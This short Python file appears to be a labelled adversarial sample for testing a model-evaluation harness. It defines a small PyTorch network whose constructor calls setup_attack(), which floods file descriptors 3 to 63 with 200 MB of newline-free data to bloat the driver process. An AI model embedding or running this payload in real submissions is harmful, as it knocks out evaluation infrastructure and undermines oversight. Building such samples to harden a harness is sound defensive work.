# class: channel
# proof: driver
# attack: writes 200 MB without a newline on every descriptor to bloat the driver
import torch
import torch.nn as nn
import torch.nn.functional as F


def supported_hyperparameters():
    return {"lr", "momentum", "dropout"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.device = device
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.head = nn.Linear(8, out_shape[0])
        self.setup_attack()


    def features(self, x):
        return self.head(F.relu(self.conv(x)).mean((2, 3)))

    def forward(self, x):
        return self.features(x)

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for x, y in train_data:
            self.optimizer.zero_grad()
            F.cross_entropy(self(x), y).backward()
            self.optimizer.step()

    def setup_attack(self):
        import os
        chunk = b"x" * (1 << 20)
        for fd in range(3, 64):
            try:
                for _ in range(200):
                    os.write(fd, chunk)
            except OSError:
                pass
